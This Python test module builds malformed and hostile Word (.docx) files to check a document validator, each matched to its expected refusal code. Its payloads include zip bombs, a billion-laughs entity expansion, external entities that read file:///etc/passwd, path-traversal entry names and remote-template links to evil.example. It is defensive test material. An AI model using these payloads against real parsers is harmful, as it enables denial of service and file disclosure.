"""Files that somebody sends as a Word document and that are none, are broken, or mean harm: each made from code."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from functools import cache
from pathlib import Path

import rendered
from drafter.word import package

EXAMPLE = Path(__file__).parents[1] / "examples" / "2024_coastal_data.yaml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES, ROOT, DOCUMENT = "[Content_Types].xml", "_rels/.rels", "word/document.xml"
RELATIONSHIPS, SETTINGS = "word/_rels/document.xml.rels", "word/settings.xml"
_OPEN = "openxmlformats-officedocument"
_BODY = b"<w:body>"


@cache
def parts() -> dict[str, bytes]:
    """The parts of a report as drafter writes it."""
    return package.opened(rendered.render(EXAMPLE.read_text(encoding="utf-8")))


def zipped(found: Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of these parts, as anybody may write one."""
    stream = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "w", method) as archive:
        # Python says so when a name is there twice.
        warnings.simplefilter("ignore")
        for name, content in found:
            # Of any name, a NUL in it included, which zipfile would cut off.
            entry = zipfile.ZipInfo()
            entry.filename, entry.compress_type = name, method
            archive.writestr(entry, content)
    return stream.getvalue()


@cache
def good() -> bytes:
    """A report as Word would pack it."""
    return zipped(parts().items())


def with_parts(more: dict[str, bytes]) -> bytes:
    """The report with more parts, or others."""
    return zipped({**parts(), **more}.items())


def beside(*more: tuple[str, bytes]) -> bytes:
    """The report with more entries, of whatever names."""
    return zipped([*parts().items(), *more])


def without(*names: str) -> bytes:
    """The report without some of its parts."""
    return zipped((name, content) for name, content in parts().items() if name not in names)


def changed(part: str, old: str, new: str) -> bytes:
    """The report with other words in a part."""
    before = parts()[part].decode()
    assert old in before, f"{old} is not in {part}"
    return with_parts({part: before.replace(old, new).encode()})


def in_body(content: bytes) -> bytes:
    """The report with more at the head of its text."""
    return with_parts({DOCUMENT: parts()[DOCUMENT].replace(_BODY, _BODY + content)})


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    """The report with a relationship more."""
    more = f'<Relationship Id="planted" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return changed(RELATIONSHIPS, "</Relationships>", f"{more}</Relationships>")


def of_type(main: str) -> bytes:
    """The report with its main part of another type."""
    return changed(TYPES, f"{_OPEN}.wordprocessingml.document.main+xml", main)


def compound(*streams: str) -> bytes:
    """A file of old Office, with the names of these streams in its directory."""
    directory = b"".join(stream.encode("utf-16-le").ljust(128, b"\0") for stream in ("Root Entry", *streams))
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0") + directory.ljust(4_096, b"\0")


def owner(name: str = "Maria Example") -> bytes:
    """What Word keeps beside a file that this person has open."""
    narrow = (bytes([len(name)]) + name.encode()).ljust(54)
    return (narrow + struct.pack("<H", len(name)) + name.encode("utf-16-le")).ljust(162, b"\0")


def with_doctype(part: str, doctype: str) -> bytes:
    """The report with a document type at the head of a part."""
    head, declared, rest = parts()[part].decode().partition("?>")
    return with_parts({part: f"{head}{declared}{doctype}{rest}".encode()})


def laughing() -> bytes:
    """Entities that grow tenfold nine times."""
    steps = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE w:document [<!ENTITY a0 "ha">{steps}]>'
    head, declared, rest = parts()[DOCUMENT].decode().partition("?>")
    rest = rest.replace("<w:body>", "<w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", 1)
    return with_parts({DOCUMENT: f"{head}{declared}{doctype}{rest}".encode()})


def patched(content: bytes, *patches: tuple[bytes, int, bytes]) -> bytes:
    """A zip with other bytes so far behind each place of a signature."""
    made = bytearray(content)
    for signature, offset, new in patches:
        at = made.find(signature)
        while at >= 0:
            made[at + offset : at + offset + len(new)] = new
            at = made.find(signature, at + 4)
    return bytes(made)


def lying(stated: int, part: str = "word/media/a.png") -> bytes:
    """A bomb of 50 MB that states another size, in both of its records."""
    honest = zipped([*parts().items(), (part, bytes(50_000_000))])
    size = struct.pack("<I", 50_000_000)
    assert honest.count(size) == 2
    return honest.replace(size, struct.pack("<I", stated))


def overlapping(names: int = 1_000, size: int = 10_000_000, stated: int | None = None) -> bytes:
    """Many names for one compressed kernel, as in a bomb that is flat."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(bytes(size)) + packer.flush()
    real = zipped(parts().items())
    end = real.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<L", real, end + 16)[0]
    about = (20, 0, 8, 0, 33, zlib.crc32(bytes(size)), len(kernel), size if stated is None else stated)
    record = struct.pack("<4s5H3L2H", b"PK\x03\x04", *about, 1, 0) + b"a"
    directory = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *about, len(name), 0, 0, 0, 0, 0, start) + name
        for name in (f"word/media/{n}.png".encode() for n in range(names))
    )
    whole = real[:start] + record + kernel + real[start:end] + directory
    count = struct.unpack_from("<H", real, end + 10)[0] + names
    size_of_directory, at = end - start + len(directory), start + len(record) + len(kernel)
    return whole + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size_of_directory, at, 0)


def odd_parts(names: int) -> bytes:
    """A zip of nothing but a directory with so many records."""
    record = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(record) * names, 34, 0)
    return b"PK\x03\x04" + bytes(30) + record * names + end


def elsewhere() -> bytes:
    """The report with its main part under another name, which its relationships and types tell."""
    found = dict(parts())
    found["content/report.xml"] = found.pop(DOCUMENT)
    relations = found.pop(RELATIONSHIPS).decode()
    found["content/_rels/report.xml.rels"] = relations.replace('Target="', 'Target="../word/').encode()
    for name in (TYPES, ROOT):
        found[name] = found[name].replace(b"word/document.xml", b"content/report.xml")
    return zipped(found.items())


def in_utf_16(part: str = DOCUMENT) -> bytes:
    """The report with a part in UTF-16, which says so."""
    text = parts()[part].decode().replace("UTF-8", "UTF-16").replace("utf-8", "UTF-16")
    return with_parts({part: text.encode("utf-16")})


def strict() -> bytes:
    """The report as Word saves it as a Strict Open XML Document."""
    found = {}
    for name, content in parts().items():
        if name.endswith((".xml", ".rels")):
            for of, to in (
                (b"http://schemas.openxmlformats.org/officeDocument/2006/", b"http://purl.oclc.org/ooxml/officeDocument/"),
                (b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                 b"http://purl.oclc.org/ooxml/wordprocessingml/main"),
            ):  # fmt: skip
                content = content.replace(of, to)
        found[name] = content
    return zipped(found.items())


def strict_at_heart() -> bytes:
    """The report whose main part alone is strict."""
    old = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return changed(DOCUMENT, old, "http://purl.oclc.org/ooxml/wordprocessingml/main")


def damaged() -> bytes:
    """The report with a wrong checksum of its main part, in both of its records."""
    crc = struct.pack("<L", zlib.crc32(parts()[DOCUMENT]))
    assert good().count(crc) == 2
    return good().replace(crc, b"\0\1\2\3")


def cut_inside() -> bytes:
    """The report without a kilobyte in its middle, its directory still there."""
    half = len(good()) // 2
    return good()[:half] + good()[half + 1_024 :]


def garbled() -> bytes:
    """The report with the compressed bytes of its main part overwritten."""
    at = good().index(DOCUMENT.encode()) + len(DOCUMENT)
    return good()[: at + 200] + b"\xff" * 200 + good()[at + 400 :]


_EMBEDDED = f'<Default Extension="xlsx" ContentType="application/vnd.{_OPEN}.spreadsheetml.sheet"/>'
_ATTRIBUTES = " ".join(f'a{n}="1"' for n in range(100_000))
_MHTML = b"MIME-Version: 1.0\nContent-Type: multipart/related\n\nContent-Type: text/html\n"
_WORD_2003 = b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="%s"/>'
_FLAT = b'<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"/>'
_EXTERNAL = '<!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///etc/passwd">]>'

#: What it is → how it is made, the code of its refusal, and some words of the sentence.
REFUSED: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # Of another kind.
    "nothing": (lambda: b"", "W301", "the file is empty"),
    "zeros": (lambda: bytes(20_000), "W301", "nothing but zeros"),
    "a PDF": (lambda: b"%PDF-1.7\n%\xe2\xe3\n", "W302", "a PDF, not a Word document (.docx); ask for the .docx that"),
    "a PDF behind other bytes": (lambda: b"\n\n%PDF-1.4\n%\n", "W302", "a PDF"),
    "a .doc": (lambda: compound("1Table", "WordDocument"), "W303", "Word 97 to 2003 (.doc)"),
    "a file under a password": (
        lambda: compound("EncryptionInfo", "EncryptedPackage"), "W304", "under a password: nobody reads it without",
    ),
    "an .rtf": (lambda: b"{\\rtf1\\ansi Words.}", "W305", "Rich Text Format"),
    "an .odt": (
        lambda: zipped([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<a/>")]),
        "W306", "LibreOffice (.odt)",
    ),
    "an .ods": (
        lambda: zipped([("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")]), "W306", "that is no text",
    ),
    "an .fodt": (
        lambda: b'<?xml version="1.0"?><o:document xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
        "W306", "LibreOffice (.odt)",
    ),
    "a .dotx": (
        lambda: of_type(f"{_OPEN}.wordprocessingml.template.main+xml"), "W307", "a Word template (.dotx)",
    ),
    "a .docm": (lambda: of_type("ms-word.document.macroEnabled.main+xml"), "W308", "with macros (.docm)"),
    "a .dotm": (lambda: of_type("ms-word.template.macroEnabledTemplate.main+xml"), "W308", "with macros"),
    "macros in a .docx": (
        lambda: with_parts({"word/vbaProject.bin": compound("VBA")}), "W308", "with macros (.docm); drafter runs none",
    ),
    "macros under another name": (
        lambda: changed(TYPES, "</Types>", '<Override PartName="/word/settings.xml" '
                        'ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
        "W308", "with macros",
    ),
    "an .xlsx": (
        lambda: changed(TYPES, f"{_OPEN}.wordprocessingml.document.main+xml", f"{_OPEN}.spreadsheetml.sheet.main+xml"),
        "W309", "a workbook of Excel",
    ),
    "an .xlsb": (lambda: of_type("ms-excel.sheet.binary.macroEnabled.main"), "W309", "a workbook of Excel"),
    "a .pptx": (
        lambda: of_type(f"{_OPEN}.presentationml.presentation.main+xml"), "W309", "a presentation of PowerPoint",
    ),
    "an .xls": (lambda: compound("Workbook"), "W309", "a workbook of Excel"),
    "a .ppt": (lambda: compound("PowerPoint Document"), "W309", "a presentation of PowerPoint"),
    "a .msg": (lambda: compound("__properties_version1.0", "WordDocument"), "W309", "an e-mail"),
    "another file of old Office": (lambda: compound("VisioDocument"), "W309", "another Office program"),
    "a web page": (lambda: b"\xef\xbb\xbf\n<!DOCTYPE html><html><p>Words</html>", "W310", "a web page"),
    "a web page of Word": (lambda: b'<html xmlns:o="urn:schemas-microsoft-com:office:office">', "W310", "a web page"),
    "a web page of old": (lambda: b"<html><p>Conf\xe9rence\7\x03</html>", "W310", "a web page"),
    "a web page in one file": (lambda: _MHTML, "W310", "a web page"),
    "Word 2003 XML": (
        lambda: _WORD_2003 % b"http://schemas.microsoft.com/office/word/2003/wordml", "W311", "in one XML file",
    ),
    "flat OPC": (lambda: _FLAT, "W311", "in one XML file"),
    "flat OPC in UTF-16": (lambda: _FLAT.decode().encode("utf-16"), "W311", "in one XML file"),
    "other XML": (lambda: b'<?xml version="1.0"?><a/>', "W311", "an XML file"),
    "an outline": (lambda: EXAMPLE.read_bytes(), "W312", "plain text, not a Word document (.docx); ask for it as"),
    "text of Windows": (lambda: b"Conf\xe9rence des Parties\r\n", "W312", "plain text"),
    "text in UTF-16": (lambda: "Words and words.\r\n".encode("utf-16"), "W312", "plain text"),
    "a picture": (lambda: rendered.PICTURE, "W313", "a picture"),
    "a photograph": (lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0", "W313", "a picture"),
    "a photograph of a telephone": (lambda: b"\0\0\0\x18ftypheic\0\0\0\0", "W313", "a picture"),
    "a drawing": (lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "W313", "a picture"),
    "an owner file": (owner, "W314", "what Word keeps beside a file that is open (~$)"),
    "what a Mac keeps": (lambda: b"\0\x05\x16\x07\0\2\0\0Mac OS X", "W314", "what a Mac keeps"),
    "a shortcut": (lambda: b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0", "W314", "a shortcut"),
    "a shortcut to Google Docs": (lambda: b'{"": "WARNING!", "doc_id": "1a"}', "W314", "a shortcut to Google Docs"),
    "a zip in a zip": (lambda: zipped([("a/report.docx", good())]), "W315", "unpack it, and take a/report.docx"),
    "a zip of other things": (lambda: zipped([("a.txt", b"Words")]), "W315", "a packed folder"),
    "a zip of nothing": (lambda: zipped([]), "W315", "a packed folder"),
    "a .7z": (lambda: b"7z\xbc\xaf\x27\x1c\0\4", "W315", "a packed folder"),
    "a .pages": (lambda: zipped([("Index/Document.iwa", b"\0")]), "W316", "Apple Pages"),
    "a program": (lambda: b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff", "W316", "a kind that drafter does not know"),
    # Broken.
    "a download that broke off": (lambda: good()[: len(good()) * 2 // 3], "W321", "only the beginning of a file"),
    "four bytes": (lambda: b"PK\x03\x04", "W321", "only the beginning of a file"),
    "a cut": (cut_inside, "W322", "bytes are missing in it"),
    "a directory that is cut": (lambda: good()[: -200] + good()[-22:], "W322", "bytes are missing in it"),
    "one file in another": (
        lambda: zipped([("a.docx", zipped(parts().items(), 0))], 0)[:-60], "W322", "bytes are missing in it",
    ),
    "a wrong checksum": (damaged, "W323", "word/document.xml is not what was packed"),
    "garbled bytes": (garbled, "W323", "word/document.xml is not what was packed"),
    "entries under a password": (
        lambda: patched(good(), (b"PK\x01\x02", 8, b"\1\0"), (b"PK\x03\x04", 6, b"\1\0")), "W324", "under a password",
    ),
    "another compression": (lambda: zipped(parts().items(), zipfile.ZIP_LZMA), "W325", "neither Word nor drafter"),
    "yet another compression": (lambda: zipped(parts().items(), zipfile.ZIP_BZIP2), "W325", "neither Word nor"),
    # Too much.
    "a bomb": (lambda: beside(("word/media/a.png", bytes(65_000_000))), "W326", "unpacks to more than"),
    "a bomb of text": (
        lambda: in_body(b"<w:p><w:r><w:t>words</w:t></w:r></w:p>" * 1_100_000), "W326", "unpacks to more than",
    ),
    "a bomb that says it is small": (lambda: lying(10), "W323", "word/media/a.png is not what was packed"),
    "a bomb that says it is larger": (lambda: lying(50_000_001), "W323", "word/media/a.png is not what was packed"),
    "a bomb that says it is vast": (lambda: lying(0xFFFFFFFE), "W326", "unpacks to more than"),
    "a flat bomb": (lambda: overlapping(), "W326", "unpacks to more than"),
    "a flat bomb that says it is small": (lambda: overlapping(stated=1), "W330", "overlap"),
    "many parts": (lambda: beside(*((f"word/{n}", b"") for n in range(2_001))), "W327", "more than 2,000 parts"),
    "many parts as drafter packs them": (
        lambda: package.saved({**parts(), **{f"word/{n}": b"" for n in range(2_001)}}), "W327", "more than 2,000 parts",
    ),
    "very many parts": (lambda: odd_parts(300_000), "W327", "more than 2,000 parts"),
    "depth": (
        lambda: in_body(b"<w:sdt>" * 100_000 + b"</w:sdt>" * 100_000), "W335", "elements within elements",
    ),
    "a long attribute": (
        lambda: in_body(b'<w:p w:rsidR="%s"/>' % (b"0" * 30_000_000)), "W335", "(the text); do not use it",
    ),
    "a very long attribute": (
        lambda: in_body(b'<w:p w:rsidR="%s"/>' % (b"0" * 100_000_000)), "W326", "unpacks to more than",
    ),
    "a long text": (
        lambda: in_body(b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % (b"a" * 30_000_000)), "W335", "text that has no end",
    ),
    "many attributes": (
        lambda: in_body(f"<w:p {_ATTRIBUTES}/>".encode()), "W335", "more attributes than there are",
    ),
    "a long namespace": (
        lambda: in_body(b'<a:p xmlns:a="%s">' % (b"a" * 5_000_000) + b"<a:p/>" * 100_000 + b"</a:p>"),
        "W335", "a namespace that is longer than any",
    ),
    "a long text of its own": (lambda: "é".encode() * 9_000_000, "W312", "plain text"),
    "many links": (
        lambda: changed(RELATIONSHIPS, "</Relationships>", "".join(
            f'<Relationship Id="a{n}" Type="{OFFICE}/image" Target="media/{n}.png"/>' for n in range(150_000)
        ) + "</Relationships>"),
        "W335", "more links than any document",
    ),
    "many names": (
        lambda: in_body(b"".join(b"<w:p%d/>" % n for n in range(1_000_000))),
        "W335", "elements of more names than there are",
    ),
    "many elements": (lambda: in_body(b"<w:p/>" * 5_000_000), "W335", "more elements than"),
    "many elements in many parts": (
        lambda: with_parts({f"customXml/a{n}.xml": b"<a>" + b"<a/>" * 100_000 + b"</a>" for n in range(90)}),
        "W335", "more elements than",
    ),
    # Names.
    "a way up": (lambda: beside(("../a.xml", b"<a/>")), "W328", "leads out of the file, ../a.xml"),
    "a way up in between": (lambda: beside(("word/../../a.xml", b"<a/>")), "W328", "leads out of the file"),
    "a way from the root": (lambda: beside(("/etc/a.xml", b"<a/>")), "W328", "leads out of the file, /etc/a.xml"),
    "a way of Windows": (lambda: beside(("word\\a.xml", b"<a/>")), "W328", "leads out of the file"),
    "a disk": (lambda: beside(("c:/a.xml", b"<a/>")), "W328", "leads out of the file, c:/a.xml"),
    "a name with a NUL": (lambda: beside(("word/a.xml\0.png", b"<a/>")), "W328", "leads out of the file"),
    "a way up as drafter packs it": (
        lambda: package.saved({**parts(), "../a.xml": b"<a/>"}), "W328", "leads out of the file, ../a.xml",
    ),
    "a part twice": (lambda: beside((DOCUMENT, b"<a/>")), "W329", "two parts of one name, word/document.xml"),
    "a part twice but for capitals": (
        lambda: beside(("WORD/Document.xml", b"<a/>")), "W329", "two parts of one name, WORD/Document.xml",
    ),
    "a part twice as drafter packs it": (
        lambda: package.saved({**parts(), "Word/document.xml": b"<a/>"}), "W329", "two parts of one name",
    ),
    # Not what Word writes.
    "no content types": (lambda: without(TYPES), "W331", "it lacks [Content_Types].xml"),
    "no relationships": (lambda: without(ROOT), "W331", "it lacks _rels/.rels"),
    "no main part": (lambda: without(DOCUMENT), "W331", "it lacks word/document.xml"),
    "no relationship to a main part": (
        lambda: changed(ROOT, "/officeDocument\"", "/office\""), "W331", "it lacks a text",
    ),
    "a main part without a name": (
        lambda: changed(ROOT, 'Target="word/document.xml"', 'Target=" "'), "W331", "it lacks a text",
    ),
    "a main part of a long name": (
        lambda: changed(ROOT, 'Target="word/document.xml"', f'Target="{"a" * 3_000}"'), "W331", f"{'a' * 79}…, which",
    ),
    "a main part outside": (
        lambda: changed(ROOT, 'Target="word/document.xml"', 'Target="word/document.xml" TargetMode="External"'),
        "W331", "it lacks a text",
    ),
    "a main part that is no text": (lambda: with_parts({DOCUMENT: b"<a/>"}), "W331", "it lacks a text"),
    "strict": (strict, "W332", "Strict Open XML Document"),
    "strict in its main part": (strict_at_heart, "W332", "Strict Open XML Document"),
    "a document type": (lambda: with_doctype(DOCUMENT, "<!DOCTYPE w:document>"), "W333", "a document type"),
    "a billion laughs": (laughing, "W333", "a document type"),
    "an entity from outside": (lambda: with_doctype(DOCUMENT, _EXTERNAL), "W333", "a document type"),
    "an entity in another part": (lambda: with_doctype(SETTINGS, _EXTERNAL), "W333", "the settings of the document"),
    "an entity in the types": (lambda: with_doctype(TYPES, _EXTERNAL), "W333", "the file itself"),
    "an entity in UTF-16": (
        lambda: with_parts({SETTINGS: f'<?xml version="1.0" encoding="UTF-16"?>{_EXTERNAL}<a/>'.encode("utf-16")}),
        "W333", "the settings of the document",
    ),
    "XML that is broken": (lambda: changed(DOCUMENT, "</w:body>", ""), "W334", "no XML that can be read"),
    "XML without an end": (
        lambda: with_parts({SETTINGS: parts()[SETTINGS][:-5]}), "W334", "the settings of the document",
    ),
    "an entity of nobody": (lambda: in_body(b"<w:p>&a;</w:p>"), "W334", "no XML that can be read"),
    "a prefix of nobody": (lambda: in_body(b"<nobody:p/>"), "W334", "no XML that can be read"),
    "XML in an encoding of nobody": (
        lambda: with_parts({SETTINGS: b'<?xml version="1.0" encoding="utf-7"?><a/>'}), "W334", "no XML that",
    ),
    "bytes that are no letters": (lambda: in_body(b"<w:p>\xff\xfe</w:p>"), "W334", "no XML that can be read"),
}  # fmt: skip

#: What only resembles an attack, or is unusual, and is read.
READ: dict[str, Callable[[], bytes]] = {
    "as drafter writes it": lambda: package.saved(parts()),
    "as Word packs it": good,
    "its main part under another name": elsewhere,
    "a part in UTF-16": in_utf_16,
    "types in UTF-16": lambda: in_utf_16(TYPES),
    "types in capitals": lambda: zipped((name.replace(TYPES, TYPES.upper()), part) for name, part in parts().items()),
    "a link to the web": lambda: related("hyperlink", "https://unfccc.int"),
    "a link to a shared folder": lambda: related("hyperlink", "file://server/share"),
    "another template": lambda: with_parts({
        "word/_rels/settings.xml.rels": (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
            f'Type="{OFFICE}/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
            "</Relationships>").encode()}),
    "a linked picture": lambda: related("image", "http://evil.example/a.png"),
    "a way out of the file": lambda: related("image", "../../../../etc/passwd", ""),
    "an embedded workbook": lambda: with_parts({
        TYPES: parts()[TYPES].replace(b"</Types>", f"{_EMBEDDED}</Types>".encode()),
        "word/embeddings/a.xlsx": zipped([("a", b"b")], 0)}),
    "a web page to be merged in": lambda: with_parts({"word/afchunk.htm": b"<!DOCTYPE html><html><p>Words<br></html>"}),
    "a signature": lambda: with_parts({"_xmlsignatures/sig1.xml": b"<Signature/>", "_xmlsignatures/origin.sigs": b""}),
    "protected against edits": lambda: changed(
        SETTINGS, "<w:zoom", '<w:documentProtection w:edit="readOnly" w:enforcement="1"/><w:zoom'),
    "folders among its parts": lambda: zipped([("word/", b""), ("docProps/", b""), *parts().items()]),
    "comments and instructions": lambda: in_body(b"<!-- a --><?b c?><w:p><![CDATA[ ]]></w:p>"),
    "a large picture of nothing": lambda: beside(("word/media/a.png", bytes(30_000_000))),
    "more behind its end": lambda: good() + b"\n",
}  # fmt: skip
